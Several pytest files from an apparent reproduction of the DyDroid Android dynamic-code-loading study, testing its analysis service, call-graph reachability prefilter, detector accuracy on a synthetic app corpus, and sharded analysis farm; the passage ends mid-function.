# -- satellite: concurrent duplicate submissions --------------------------------


class TestConcurrentDuplicates:
    def test_n_threads_one_pipeline_run(self):
        """N concurrent identical submissions -> exactly one execution."""
        n_threads = 8
        with running_service() as (service, client):
            barrier = threading.Barrier(n_threads)
            responses = [None] * n_threads
            errors = []

            def submit(slot):
                try:
                    barrier.wait(timeout=10)
                    own = ServiceClient("127.0.0.1", client.port)
                    response = own.submit(SPEC, client="thread-{}".format(slot))
                    if response["state"] != "done":
                        response = own.wait(response["job_id"])
                    responses[slot] = response
                except Exception as exc:  # surfaced after join
                    errors.append(exc)

            threads = [
                threading.Thread(target=submit, args=(slot,))
                for slot in range(n_threads)
            ]
            for thread in threads:
                thread.start()
            for thread in threads:
                thread.join(timeout=120)
            assert not errors
            digests = {response["digest"] for response in responses}
            assert len(digests) == 1 and None not in digests

            counters = client.stats()["counters"]
            assert counters["service.pipeline.runs"] == 1
            assert counters["service.cache.miss"] == 1
            assert counters["service.cache.hit"] == n_threads - 1
            assert counters["service.rejected.queue_full"] == 0
            assert counters["service.rejected.rate_limited"] == 0
            assert counters["service.jobs.completed"] == 1


# -- admission control and rate limiting over HTTP -------------------------------


class TestAdmissionControl:
    def test_full_queue_gets_429_with_retry_after(self):
        # workers=0: nothing dequeues, so the queue fills deterministically.
        with running_service(workers=0, queue_depth=2) as (service, client):
            for index in range(2):
                response = client.submit({**SPEC, "index": index})
                assert response["state"] == "queued"
            rejected = client.submit({**SPEC, "index": 5}, expect_error=True)
            assert rejected["_status"] == 429
            assert rejected["_retry_after_s"] >= 1
            assert rejected["error"] == "queue full"
            counters = client.stats()["counters"]
            assert counters["service.rejected.queue_full"] == 1
            # duplicates of queued work still coalesce instead of rejecting.
            coalesced = client.submit({**SPEC, "index": 0})
            assert coalesced["coalesced"]

    def test_rate_limited_client_gets_429(self):
        with running_service(workers=0, rate_per_s=0.001, rate_burst=1) as (
            service,
            client,
        ):
            first = client.submit({**SPEC, "index": 0}, client="greedy")
            assert first["state"] == "queued"
            second = client.submit(
                {**SPEC, "index": 1}, client="greedy", expect_error=True
            )
            assert second["_status"] == 429
            assert second["_retry_after_s"] >= 1
            other = client.submit({**SPEC, "index": 2}, client="patient")
            assert other["state"] == "queued"
            counters = client.stats()["counters"]
            assert counters["service.rejected.rate_limited"] == 1


# -- persistence across restarts --------------------------------------------------


class TestPersistenceRestart:
    def test_restarted_daemon_serves_prior_results(self, tmp_path):
        journal = str(tmp_path / "service.jsonl")
        with running_service(persist=journal) as (service, client):
            job = client.wait(client.submit(SPEC)["job_id"])
            digest = job["digest"]
            first_run = client.result(digest)["analysis"]
            assert client.stats()["counters"]["service.pipeline.runs"] == 1

        with running_service(persist=journal) as (service, client):
            stats = client.stats()
            assert stats["counters"]["service.persist.restored"] == 1
            assert stats["cache"]["entries"] == 1
            repeat = client.submit(SPEC)
            assert repeat["state"] == "done" and repeat["cached"]
            assert repeat["digest"] == digest
            assert client.result(digest)["analysis"] == first_run
            counters = client.stats()["counters"]
            assert counters["service.pipeline.runs"] == 0  # no recomputation

    def test_restarted_daemon_reuses_verdict_store(self, tmp_path):
        """A fresh daemon without a persist journal still skips analyzer work."""
        store = str(tmp_path / "verdicts.jsonl")
        with running_service(verdict_store=store) as (service, client):
            client.wait(client.submit(SPEC)["job_id"])
            assert client.stats()["verdict_store"]["path"] == store
            cold_misses = service.registry.counter_value("store.detection.miss")
            assert cold_misses > 0
            assert service.registry.counter_value("store.detection.hit") == 0

        with running_service(verdict_store=store) as (service, client):
            client.wait(client.submit(SPEC)["job_id"])
            # the pipeline ran again (no persist journal) but every verdict
            # came out of the warm store
            assert client.stats()["counters"]["service.pipeline.runs"] == 1
            assert service.registry.counter_value("store.detection.miss") == 0
            assert service.registry.counter_value("store.detection.hit") == cold_misses

    def test_config_mismatch_refuses_journal(self, tmp_path):
        journal = str(tmp_path / "service.jsonl")
        ResultJournal(journal, pipeline_config()).close()
        service = AnalysisService(
            ServiceConfig(
                workers=0,
                persist=journal,
                pipeline=DyDroidConfig(train_samples_per_family=5),
            )
        )
        with pytest.raises(ServicePersistError):
            service.start()


# -- drain / shutdown -------------------------------------------------------------


class TestDrain:
    def test_drain_finishes_queued_jobs_then_rejects(self):
        with running_service() as (service, client):
            job_ids = [
                client.submit({**SPEC, "index": index})["job_id"]
                for index in range(3)
            ]
            assert service.drain(timeout=120.0)
            for job_id in job_ids:
                assert client.job(job_id)["state"] == "done"
            assert client.healthz()["status"] == "draining"
            rejected = client.submit({**SPEC, "index": 9}, expect_error=True)
            assert rejected["_status"] == 503

    def test_closed_queue_submit_gets_503_not_429(self):
        """The submit/close race: a closed queue is *draining*, not *full*.

        ``put`` on a closed queue used to raise ``QueueFullError``, so the
        HTTP layer answered 429 + Retry-After -- telling clients to retry
        against a daemon that will never accept.  It now raises
        ``QueueClosedError`` and submit answers 503 with the half-created
        job rolled back.
        """
        service = AnalysisService(
            ServiceConfig(workers=0, pipeline=pipeline_config())
        )
        service.start()
        try:
            service.queue.close()  # drain has begun but _draining isn't set yet
            status, body, headers = service.submit(dict(SPEC))
            assert status == 503
            assert "Retry-After" not in headers
            assert "draining" in body["error"]
            assert service.registry.counter_value("service.rejected.draining") == 1
            # the job created before the enqueue failed was rolled back
            assert service.jobs.counts()["total"] == 0
            assert len(service._inflight) == 0
        finally:
            service.drain(timeout=60.0)

    def test_serve_cli_drains_on_sigterm(self, tmp_path):
        """`repro serve` + SIGTERM: clean drain, exit code 0."""
        src = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "src")
        env = dict(os.environ)
        env["PYTHONPATH"] = src + os.pathsep + env.get("PYTHONPATH", "")
        process = subprocess.Popen(
            [
                sys.executable, "-m", "repro", "serve", "--port", "0",
                "--workers", "1", "--train", "2", "--no-replays",
            ],
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
            env=env,
        )
        try:
            banner = process.stdout.readline()
            assert "listening on" in banner, banner
            port = int(banner.split(":")[-1].split()[0].rstrip(")"))
            client = ServiceClient("127.0.0.1", port, timeout=30.0)
            job = client.wait(client.submit(SPEC)["job_id"], timeout=120.0)
            assert job["state"] == "done"
            process.send_signal(signal.SIGTERM)
            output, _ = process.communicate(timeout=120)
        finally:
            if process.poll() is None:
                process.kill()
                process.communicate()
        assert process.returncode == 0, output
        assert "drained: 1 completed" in output, output


class TestDrainDeadline:
    def test_join_timeout_is_a_shared_deadline(self):
        """Regression: ``join(timeout=T)`` used to pass T to *every*
        thread, so W stuck workers blocked a SIGTERM drain for W x T."""
        from repro.service.scheduler import SchedulerPool

        now = [0.0]
        pool = SchedulerPool(
            JobQueue(4), lambda job_id, worker_id: None, workers=0,
            clock=lambda: now[0],
        )
        joins = []

        class StuckThread:
            def join(self, timeout=None):
                joins.append(timeout)
                now[0] += timeout  # a stuck thread eats its whole allowance

            def is_alive(self):
                return True

        pool._threads.extend(StuckThread() for _ in range(4))
        assert pool.join(timeout=1.0) is False
        # one shared deadline: ~1.0s total, not 4 x 1.0s
        assert now[0] == pytest.approx(1.0)
        assert joins[0] == pytest.approx(1.0)
        assert all(t == pytest.approx(0.0) for t in joins[1:])

    def test_joined_threads_consume_no_budget(self):
        from repro.service.scheduler import SchedulerPool

        now = [0.0]
        pool = SchedulerPool(
            JobQueue(4), lambda job_id, worker_id: None, workers=0,
            clock=lambda: now[0],
        )

        class DoneThread:
            def join(self, timeout=None):
                pass  # returns immediately, clock does not move

            def is_alive(self):
                return False

        pool._threads.extend(DoneThread() for _ in range(3))
        assert pool.join(timeout=5.0) is True
        assert now[0] == 0.0


class TestRetryAfterClamp:
    def test_infinite_retry_after_serializes_finite(self, monkeypatch):
        """Regression: a zero-rate bucket reports ``retry_after_s=inf``;
        ``int(inf)`` raises OverflowError and ``json.dumps(inf)`` emits
        ``Infinity``, which is not JSON.  The daemon clamps before both."""
        from repro.service.ratelimit import MAX_RETRY_AFTER_S

        service = AnalysisService(
            ServiceConfig(workers=0, pipeline=pipeline_config())
        )
        service.start()
        try:
            monkeypatch.setattr(
                service.limiter,
                "allow",
                lambda client: (_ for _ in ()).throw(
                    RateLimitedError(client, float("inf"))
                ),
            )
            status, body, headers = service.submit(dict(SPEC))
            assert status == 429
            assert body["retry_after_s"] == MAX_RETRY_AFTER_S
            json.dumps(body)  # must be valid JSON, not Infinity
            assert int(headers["Retry-After"]) == int(MAX_RETRY_AFTER_S)
        finally:
            service.drain(timeout=60.0)

    def test_zero_rate_bucket_still_reports_infinity_in_process(self):
        """The truth stays in-process: only serialization clamps."""
        bucket = TokenBucket(rate_per_s=0.0, burst=1, clock=lambda: 0.0)
        assert bucket.try_acquire() is None  # the one burst token
        assert bucket.try_acquire() == float("inf")  # never refills


# -- CLI ---------------------------------------------------------------------------


class TestCliInterrupt:
    def test_keyboard_interrupt_exits_130(self, monkeypatch, capsys):
        import repro.cli as cli

        def interrupted(args):
            raise KeyboardInterrupt

        monkeypatch.setattr(cli, "cmd_families", interrupted)
        assert cli.main(["families"]) == 130
        assert "interrupted" in capsys.readouterr().err

    def test_submit_against_dead_port_is_a_clean_error(self):
        import repro.cli as cli

        with running_service(workers=0) as (service, client):
            dead_port = client.port  # grab a port, then free it
        with pytest.raises(SystemExit, match="cannot reach"):
            cli.main([
                "submit", "--port", str(dead_port), "--seed", str(SEED),
                "--apps", str(N_APPS), "--index", "3",
            ])


# -- observability ----------------------------------------------------------------


class TestServiceObservability:
    def test_requests_and_jobs_are_traced_and_metered(self):
        with running_service() as (service, client):
            client.wait(client.submit(SPEC)["job_id"])
            client.submit(SPEC)
            metrics = client.metrics()
            assert metrics["counters"]["service.http.requests"] >= 3
            assert metrics["counters"]["service.http.2xx"] >= 3
            assert metrics["histograms"]["service.http"]["count"] >= 3
            assert metrics["histograms"]["stage.service.build"]["count"] == 1
            assert metrics["histograms"]["stage.service.analyze"]["count"] == 1
            # pipeline-internal stage histograms merged from the worker.
            assert "stage.decompile" in metrics["histograms"]
            spans = service.trace_dicts()
            names = {span["name"] for span in spans}
            assert "http.request" in names
            assert "service.job" in names and "service.analyze" in names
            job_spans = [s for s in spans if s["name"] == "service.job"]
            assert len(job_spans) == 1  # dedup: one execution, one job span

    def test_queue_depth_gauge_and_stats_shape(self):
        with running_service(workers=0, queue_depth=8) as (service, client):
            client.submit({**SPEC, "index": 0})
            client.submit({**SPEC, "index": 1})
            stats = client.stats()
            assert stats["queue"]["depth"] == 2
            assert stats["queue"]["max_depth"] == 8
            assert stats["jobs"]["queued"] == 2
            assert json.dumps(stats)  # JSON-plain all the way down
