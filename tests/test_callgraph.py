"""Tests for the call-graph builder and the reachability prefilter."""

import pytest

from repro.android.apk import Apk
from repro.android.builders import MethodBuilder, class_builder
from repro.android.dex import DexFile
from repro.corpus.generator import CorpusGenerator
from repro.static_analysis.callgraph import (
    build_call_graph,
    entry_points,
    prefilter_reachable,
    reachable_methods,
)
from repro.static_analysis.decompiler import Decompiler
from repro.static_analysis.prefilter import prefilter

from tests.helpers import build_manifest, downloads_and_loads_app, emit_load_dex


def _decompile(apk):
    return Decompiler().decompile(apk)


def _app_with_methods(method_specs, package="com.cg.app"):
    """method_specs: list of (class, name, [callee (class, name)...])."""
    classes = {}
    for class_name, method_name, callees in method_specs:
        cls = classes.setdefault(
            class_name,
            class_builder(
                class_name,
                superclass="android.app.Activity"
                if method_name == "onCreate"
                else "java.lang.Object",
            ),
        )
        b = MethodBuilder(method_name, class_name, arity=1)
        for callee_class, callee_name in callees:
            b.call_void(callee_class, callee_name, b.arg(0))
        b.ret_void()
        cls.add_method(b.build())
    manifest = build_manifest(package, activities=("MainActivity",))
    return Apk.build(manifest, dex_files=[DexFile(classes=list(classes.values()))])


class TestCallGraph:
    def test_direct_edges(self):
        apk = _app_with_methods(
            [
                ("com.cg.app.MainActivity", "onCreate", [("com.cg.app.Helper", "work")]),
                ("com.cg.app.Helper", "work", []),
            ]
        )
        graph = build_call_graph(_decompile(apk))
        assert graph.has_edge(
            ("com.cg.app.MainActivity", "onCreate"), ("com.cg.app.Helper", "work")
        )

    def test_cha_subclass_dispatch(self):
        # call through the base type reaches the subclass override.
        apk = _app_with_methods(
            [
                ("com.cg.app.MainActivity", "onCreate", [("com.cg.app.Base", "run")]),
                ("com.cg.app.Base", "run", []),
            ]
        )
        program = _decompile(apk)
        sub = class_builder("com.cg.app.Sub", superclass="com.cg.app.Base")
        b = MethodBuilder("run", "com.cg.app.Sub", arity=1)
        b.ret_void()
        sub.add_method(b.build())
        program.dex_files[0].classes.append(sub)
        graph = build_call_graph(program)
        assert graph.has_edge(
            ("com.cg.app.MainActivity", "onCreate"), ("com.cg.app.Sub", "run")
        )

    def test_entry_points_include_handlers_and_lifecycle(self):
        apk = _app_with_methods(
            [
                ("com.cg.app.MainActivity", "onCreate", []),
                ("com.cg.app.MainActivity", "onBannerClick", []),
            ]
        )
        entries = entry_points(_decompile(apk))
        assert ("com.cg.app.MainActivity", "onCreate") in entries
        assert ("com.cg.app.MainActivity", "onBannerClick") in entries

    def test_unreachable_method_excluded(self):
        apk = _app_with_methods(
            [
                ("com.cg.app.MainActivity", "onCreate", []),
                ("com.cg.app.Orphan", "never", []),
            ]
        )
        reachable = reachable_methods(_decompile(apk))
        assert ("com.cg.app.MainActivity", "onCreate") in reachable
        assert ("com.cg.app.Orphan", "never") not in reachable


class TestReachabilityPrefilter:
    def test_agrees_on_reachable_dcl(self):
        program = _decompile(downloads_and_loads_app())
        assert prefilter(program).has_dex_dcl
        assert prefilter_reachable(program).has_dex_dcl

    def test_dead_dcl_filtered_out(self):
        activity = "com.cg.app.MainActivity"
        cls = class_builder(activity, superclass="android.app.Activity")
        live = MethodBuilder("onCreate", activity, arity=1)
        live.ret_void()
        cls.add_method(live.build())
        dead = MethodBuilder("legacyLoader", activity, arity=1, is_public=False)
        emit_load_dex(dead, "/data/data/com.cg.app/files/x.jar", "/odex")
        dead.ret_void()
        cls.add_method(dead.build())
        apk = Apk.build(build_manifest("com.cg.app"), dex_files=[DexFile(classes=[cls])])
        program = _decompile(apk)
        assert prefilter(program).has_dex_dcl            # existence: flagged
        assert not prefilter_reachable(program).has_dex_dcl  # reachability: pruned

    def test_corpus_ground_truth_agreement(self):
        """On generated apps, reachability-pruned == blueprint reachability
        (no reflection-hidden DCL in the generator's direct-call templates)."""
        generator = CorpusGenerator(seed=81)
        blueprints = generator.sample_blueprints(250)
        checked = 0
        for blueprint in blueprints:
            if blueprint.anti_decompilation or blueprint.is_packed:
                continue
            if not blueprint.has_dex_dcl_code:
                continue
            record = generator.build_record(blueprint)
            program = _decompile(record.apk)
            reachable_verdict = prefilter_reachable(program).has_dex_dcl
            assert reachable_verdict == blueprint.dex_dcl_reachable, record.package
            checked += 1
        assert checked > 50
