"""Detector accuracy scored against the generator's ground truth.

Every corpus record retains its blueprint, so precision/recall of each
static analysis is measurable exactly -- the synthetic-market equivalent of
the paper's manual verification ("all the detection results are verified
by one of the authors manually ... no false positive").
"""

import pytest

from repro.core.config import DyDroidConfig
from repro.core.pipeline import DyDroid
from repro.corpus.generator import generate_corpus


@pytest.fixture(scope="module")
def scored():
    corpus = generate_corpus(800, seed=71)
    dydroid = DyDroid(DyDroidConfig(train_samples_per_family=2, run_replays=False))
    analyses = {record.package: dydroid.analyze_app(record) for record in corpus}
    return corpus, analyses


def _confusion(corpus, analyses, truth_fn, verdict_fn):
    tp = fp = fn = tn = 0
    for record in corpus:
        analysis = analyses[record.package]
        truth = truth_fn(record)
        verdict = verdict_fn(analysis)
        if truth and verdict:
            tp += 1
        elif truth and not verdict:
            fn += 1
        elif not truth and verdict:
            fp += 1
        else:
            tn += 1
    return tp, fp, fn, tn


class TestPrefilterAccuracy:
    def test_dex_prefilter_is_exact(self, scored):
        corpus, analyses = scored
        tp, fp, fn, tn = _confusion(
            corpus,
            analyses,
            # packed apps carry DCL code by construction (the container).
            lambda r: (r.blueprint.has_dex_dcl_code or r.blueprint.is_packed)
            and not r.blueprint.anti_decompilation,
            lambda a: a.has_dex_dcl_code,
        )
        assert fp == 0 and fn == 0

    def test_native_prefilter_is_exact(self, scored):
        corpus, analyses = scored
        tp, fp, fn, tn = _confusion(
            corpus,
            analyses,
            lambda r: (r.blueprint.has_native_code or r.blueprint.is_packed)
            and not r.blueprint.anti_decompilation,
            lambda a: a.has_native_dcl_code,
        )
        assert fp == 0 and fn == 0


class TestObfuscationAccuracy:
    def test_packing_detector_perfect(self, scored):
        corpus, analyses = scored
        tp, fp, fn, tn = _confusion(
            corpus,
            analyses,
            lambda r: r.blueprint.is_packed,
            lambda a: bool(a.obfuscation and a.obfuscation.dex_encryption),
        )
        assert fp == 0 and fn == 0

    def test_anti_decompilation_detector_perfect(self, scored):
        corpus, analyses = scored
        tp, fp, fn, tn = _confusion(
            corpus,
            analyses,
            lambda r: r.blueprint.anti_decompilation,
            lambda a: bool(a.obfuscation and a.obfuscation.anti_decompilation),
        )
        assert fp == 0 and fn == 0

    def test_reflection_detector_perfect(self, scored):
        corpus, analyses = scored
        tp, fp, fn, tn = _confusion(
            corpus,
            analyses,
            lambda r: r.blueprint.reflection and not r.blueprint.anti_decompilation
            and not r.blueprint.is_packed,
            lambda a: bool(a.obfuscation and a.obfuscation.reflection),
        )
        assert fp == 0 and fn == 0

    def test_lexical_detector_high_accuracy(self, scored):
        """Lexical detection is heuristic (dictionary membership), so we
        demand accuracy, not perfection."""
        corpus, analyses = scored
        assessable = [
            r for r in corpus
            if not r.blueprint.anti_decompilation and not r.blueprint.is_packed
        ]
        agree = sum(
            1
            for r in assessable
            if bool(
                analyses[r.package].obfuscation
                and analyses[r.package].obfuscation.lexical
            )
            == r.blueprint.lexical_obfuscated
        )
        assert agree / len(assessable) > 0.97


class TestDynamicAccuracy:
    def test_interception_matches_reachability(self, scored):
        """DCL fires iff the blueprint made it reachable (and the app ran)."""
        corpus, analyses = scored
        for record in corpus:
            blueprint = record.blueprint
            analysis = analyses[record.package]
            if blueprint.anti_decompilation:
                continue
            expected = blueprint.dex_dcl_reachable or blueprint.is_packed
            assert analysis.dex_intercepted == expected, record.package

    def test_vulnerability_findings_exact(self, scored):
        corpus, analyses = scored
        tp, fp, fn, tn = _confusion(
            corpus,
            analyses,
            lambda r: r.blueprint.vuln_kind is not None,
            lambda a: bool(a.vulnerabilities),
        )
        assert fp == 0 and fn == 0

    def test_remote_fetch_exact(self, scored):
        corpus, analyses = scored
        tp, fp, fn, tn = _confusion(
            corpus,
            analyses,
            lambda r: r.blueprint.is_baidu_remote,
            lambda a: bool(a.remote_payloads()),
        )
        assert fp == 0 and fn == 0

    def test_malware_detection_exact(self, scored):
        corpus, analyses = scored
        tp, fp, fn, tn = _confusion(
            corpus,
            analyses,
            lambda r: r.blueprint.malware_family is not None,
            lambda a: bool(a.malicious_payloads()),
        )
        assert fp == 0 and fn == 0
