"""The analysis farm: sharding, merge determinism, resume, fault tolerance."""

import json

import pytest

from repro.cli import main
from repro.core.config import DyDroidConfig
from repro.core.pipeline import DyDroid, LruCache
from repro.corpus.generator import CorpusGenerator, generate_corpus
from repro.farm import (
    ChaosSpec,
    CheckpointError,
    FarmConfig,
    plan_shards,
    run_farm,
)

N_APPS = 48
SEED = 19


def pipeline_config():
    return DyDroidConfig(train_samples_per_family=2, run_replays=False)


def farm_config(**kwargs):
    defaults = dict(
        n_apps=N_APPS,
        corpus_seed=SEED,
        workers=1,
        pipeline=pipeline_config(),
        backoff_s=0.0,
    )
    defaults.update(kwargs)
    return FarmConfig(**defaults)


@pytest.fixture(scope="module")
def serial_report():
    corpus = generate_corpus(N_APPS, seed=SEED)
    return DyDroid(pipeline_config()).measure(corpus)


@pytest.fixture(scope="module")
def corpus_packages():
    generator = CorpusGenerator(seed=SEED)
    return [b.package for b in generator.sample_blueprints(N_APPS)]


class TestShardPlanner:
    def test_partition_covers_every_index_once(self):
        for n_shards in (1, 2, 3, 7, 16):
            shards = plan_shards(100, n_shards)
            indices = [i for shard in shards for i in shard.indices]
            assert sorted(indices) == list(range(100))

    def test_contiguous_is_balanced(self):
        sizes = [len(s) for s in plan_shards(10, 4)]
        assert sizes == [3, 3, 2, 2]

    def test_round_robin_interleaves(self):
        shards = plan_shards(7, 3, strategy="round-robin")
        assert shards[0].indices == (0, 3, 6)
        assert shards[1].indices == (1, 4)
        assert shards[2].indices == (2, 5)

    def test_deterministic(self):
        assert plan_shards(123, 8) == plan_shards(123, 8)

    def test_more_shards_than_apps(self):
        shards = plan_shards(3, 10)
        assert len(shards) == 3
        assert all(len(s) == 1 for s in shards)

    def test_invalid_inputs(self):
        with pytest.raises(ValueError):
            plan_shards(10, 0)
        with pytest.raises(ValueError):
            plan_shards(-1, 2)
        with pytest.raises(ValueError):
            plan_shards(10, 2, strategy="random")


class TestWorkerCorpusRegeneration:
    def test_records_at_matches_full_generation(self):
        generator = CorpusGenerator(seed=SEED)
        full = generator.generate(12)
        partial = CorpusGenerator(seed=SEED).records_at(12, [3, 7])
        assert partial[0].apk.sha256() == full[3].apk.sha256()
        assert partial[1].apk.sha256() == full[7].apk.sha256()

    def test_records_at_rejects_out_of_range(self):
        with pytest.raises(IndexError):
            CorpusGenerator(seed=SEED).records_at(12, [12])


class TestMergeDeterminism:
    @pytest.mark.parametrize("n_shards", [1, 2, 4])
    def test_sharded_equals_serial(self, serial_report, n_shards):
        result = run_farm(farm_config(n_shards=n_shards))
        assert result.report.render_dynamic_summary() == serial_report.render_dynamic_summary()
        assert result.report.render_entity_table() == serial_report.render_entity_table()
        assert result.report.render_obfuscation_table() == serial_report.render_obfuscation_table()
        assert result.report.render_malware_table() == serial_report.render_malware_table()
        assert result.report.render_all() == serial_report.render_all()

    def test_round_robin_equals_serial(self, serial_report):
        result = run_farm(farm_config(n_shards=4, shard_strategy="round-robin"))
        assert result.report.render_all() == serial_report.render_all()

    def test_process_pool_equals_serial(self, serial_report):
        result = run_farm(farm_config(workers=2, n_shards=4))
        assert result.report.render_all() == serial_report.render_all()
        assert result.metrics["apps_analyzed"] == N_APPS


class TestCheckpointResume:
    def test_kill_and_resume_matches_uninterrupted(self, serial_report, tmp_path):
        checkpoint = tmp_path / "journal.jsonl"
        run_farm(farm_config(n_shards=8, checkpoint=str(checkpoint)))
        lines = checkpoint.read_text().splitlines()
        assert len(lines) == 1 + N_APPS  # header + one line per app

        # Simulate a kill after 10 settled apps, mid-write of the 11th.
        torn = lines[11][: len(lines[11]) // 2]
        checkpoint.write_text("\n".join(lines[:11]) + "\n" + torn)

        resumed = run_farm(
            farm_config(n_shards=8, checkpoint=str(checkpoint), resume=True)
        )
        assert resumed.resumed_apps == 10
        assert resumed.metrics["apps_analyzed"] == N_APPS - 10
        assert resumed.report.render_all() == serial_report.render_all()

    def test_resume_requires_matching_run(self, tmp_path):
        checkpoint = tmp_path / "journal.jsonl"
        run_farm(farm_config(n_apps=6, n_shards=2, checkpoint=str(checkpoint)))
        with pytest.raises(CheckpointError):
            run_farm(
                farm_config(
                    n_apps=6, corpus_seed=SEED + 1,
                    n_shards=2, checkpoint=str(checkpoint), resume=True,
                )
            )

    def test_double_resume_after_torn_tail(self, serial_report, tmp_path):
        """Resuming twice after a torn tail must not corrupt the journal.

        Reopening in append mode after a torn write used to concatenate
        the first resumed entry onto the torn fragment, so the *second*
        resume lost that entry (or refused the file).  The torn tail is
        now truncated before appending.
        """
        checkpoint = tmp_path / "journal.jsonl"
        run_farm(farm_config(n_shards=8, checkpoint=str(checkpoint)))
        lines = checkpoint.read_text().splitlines()
        torn = lines[11][: len(lines[11]) // 2]
        checkpoint.write_text("\n".join(lines[:11]) + "\n" + torn)

        run_farm(farm_config(n_shards=8, checkpoint=str(checkpoint), resume=True))
        # every line is complete JSON again: header + one per app
        reread = checkpoint.read_text().splitlines()
        assert len(reread) == 1 + N_APPS
        for line in reread:
            json.loads(line)

        second = run_farm(
            farm_config(n_shards=8, checkpoint=str(checkpoint), resume=True)
        )
        assert second.resumed_apps == N_APPS
        assert second.metrics["apps_analyzed"] == 0
        assert second.report.render_all() == serial_report.render_all()

    def test_incomplete_entry_raises_typed_error(self, tmp_path):
        checkpoint = tmp_path / "journal.jsonl"
        run_farm(farm_config(n_apps=6, n_shards=2, checkpoint=str(checkpoint)))
        with checkpoint.open("a") as handle:
            handle.write('{"kind": "result", "index": 3}\n')  # no "analysis"
        with pytest.raises(CheckpointError) as excinfo:
            run_farm(
                farm_config(
                    n_apps=6, n_shards=2, checkpoint=str(checkpoint), resume=True
                )
            )
        message = str(excinfo.value)
        assert "journal.jsonl:8" in message
        assert "analysis" in message

    def test_resume_without_checkpoint_rejected(self):
        with pytest.raises(ValueError):
            run_farm(farm_config(resume=True))

    def test_resume_missing_file_rejected(self, tmp_path):
        with pytest.raises(CheckpointError):
            run_farm(
                farm_config(checkpoint=str(tmp_path / "nope.jsonl"), resume=True)
            )


class TestFaultTolerance:
    def test_transient_failure_is_retried(self, serial_report, corpus_packages):
        flaky = corpus_packages[4]
        result = run_farm(
            farm_config(
                n_shards=4, max_retries=2,
                chaos=ChaosSpec(fail_packages=(flaky,), fail_attempts=1),
            )
        )
        assert result.metrics["retries"] == 1
        assert not result.quarantined
        assert result.report.render_all() == serial_report.render_all()

    def test_persistent_failure_is_quarantined(self, corpus_packages, tmp_path):
        poison = corpus_packages[7]
        checkpoint = tmp_path / "journal.jsonl"
        result = run_farm(
            farm_config(
                n_shards=4, max_retries=1, checkpoint=str(checkpoint),
                chaos=ChaosSpec(fail_packages=(poison,), fail_attempts=99),
            )
        )
        assert [q.package for q in result.quarantined] == [poison]
        assert result.quarantined[0].attempts == 2  # first try + one retry
        assert result.report.n_total == N_APPS - 1
        assert poison not in {app.package for app in result.report.apps}

        # Resuming does not re-run the quarantined app (chaos removed).
        resumed = run_farm(
            farm_config(n_shards=4, checkpoint=str(checkpoint), resume=True)
        )
        assert resumed.metrics["apps_analyzed"] == 0
        assert [q.package for q in resumed.quarantined] == [poison]
        assert resumed.report.n_total == N_APPS - 1

    def test_timeout_quarantines_slow_app(self, corpus_packages):
        slow = corpus_packages[2]
        result = run_farm(
            farm_config(
                n_apps=12, n_shards=2, timeout_s=0.05, max_retries=1,
                chaos=ChaosSpec(slow_packages=(slow,), slow_s=0.3),
            )
        )
        assert [q.package for q in result.quarantined] == [slow]
        assert "AppTimeoutError" in result.quarantined[0].error
        assert result.report.n_total == 11


class TestVerdictCacheBound:
    def test_lru_evicts_oldest(self):
        cache = LruCache(capacity=2)
        cache["a"] = 1
        cache["b"] = 2
        assert "a" in cache  # touch: "a" becomes most recent
        cache["c"] = 3
        assert "b" not in cache
        assert "a" in cache and "c" in cache
        assert len(cache) == 2

    def test_capacity_validated(self):
        with pytest.raises(ValueError):
            LruCache(capacity=0)

    def test_pipeline_caches_are_bounded(self):
        config = DyDroidConfig(run_malware=False, verdict_cache_capacity=3)
        dydroid = DyDroid(config)
        for digest in "abcdef":
            dydroid._privacy_cache[digest] = ()
        assert len(dydroid._privacy_cache) == 3
        assert dydroid._detection_cache.capacity == 3


class TestFarmCli:
    def test_farm_run_prints_tables_and_metrics(self, capsys, tmp_path):
        metrics_path = tmp_path / "metrics.json"
        assert main([
            "farm", "run", "--apps", "16", "--seed", "7", "--workers", "1",
            "--shards", "4", "--train", "2", "--no-replays",
            "--metrics-out", str(metrics_path),
        ]) == 0
        out = capsys.readouterr().out
        assert "TABLE II" in out and "TABLE X" in out
        metrics = json.loads(metrics_path.read_text())
        assert metrics["apps_analyzed"] == 16
        assert metrics["shards_run"] == 4
        assert metrics["stage_latency"]["analyze"]["count"] == 16

    def test_farm_run_json(self, capsys):
        from repro.core.report import MeasurementReport

        assert main([
            "farm", "run", "--apps", "12", "--seed", "7", "--workers", "1",
            "--shards", "2", "--train", "2", "--no-replays", "--json",
        ]) == 0
        parsed = json.loads(capsys.readouterr().out)
        assert parsed["n_total"] == 12
        assert MeasurementReport.from_dict(parsed).n_total == 12

    def test_farm_matches_measure_cli(self, capsys):
        assert main([
            "measure", "--apps", "20", "--seed", "9", "--train", "2",
            "--no-replays", "--table", "6",
        ]) == 0
        serial_out = capsys.readouterr().out
        assert main([
            "farm", "run", "--apps", "20", "--seed", "9", "--workers", "1",
            "--shards", "3", "--train", "2", "--no-replays", "--table", "6",
        ]) == 0
        assert capsys.readouterr().out == serial_out
