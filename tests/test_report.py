"""Unit tests for MeasurementReport aggregation over hand-built analyses."""

import pytest

from repro.core.report import AppAnalysis, MeasurementReport, PayloadVerdict
from repro.corpus.metadata import AppMetadata
from repro.dynamic.engine import DynamicOutcome, DynamicReport
from repro.dynamic.interceptor import PayloadKind
from repro.dynamic.provenance import Entity, Provenance
from repro.static_analysis.malware.droidnative import Detection
from repro.static_analysis.obfuscation.detector import ObfuscationProfile
from repro.static_analysis.prefilter import PrefilterResult
from repro.static_analysis.privacy.flowdroid import PrivacyLeak


def make_metadata(downloads=1000, category="Tools"):
    return AppMetadata(
        category=category,
        downloads=downloads,
        n_ratings=50,
        avg_rating=4.0,
        release_time_ms=0,
    )


def make_dynamic(outcome=DynamicOutcome.EXERCISED, dex=True, native=False):
    report = DynamicReport(package="p", outcome=outcome, environment="baseline")
    if dex:
        from repro.runtime.instrumentation import DexLoadEvent

        report.dcl.dex_events.append(
            DexLoadEvent(
                dex_paths=("/data/data/p/x.jar",),
                odex_dir=None,
                loader_kind="DexClassLoader",
                call_site="com.sdk.X",
                stack=(),
                app_package="p",
                timestamp_ms=0,
            )
        )
    if native:
        from repro.runtime.instrumentation import NativeLoadEvent

        report.dcl.native_events.append(
            NativeLoadEvent(
                lib_path="/data/data/p/lib/l.so",
                api="loadLibrary",
                call_site="com.sdk.X",
                stack=(),
                app_package="p",
                timestamp_ms=0,
            )
        )
    return report


def make_payload(
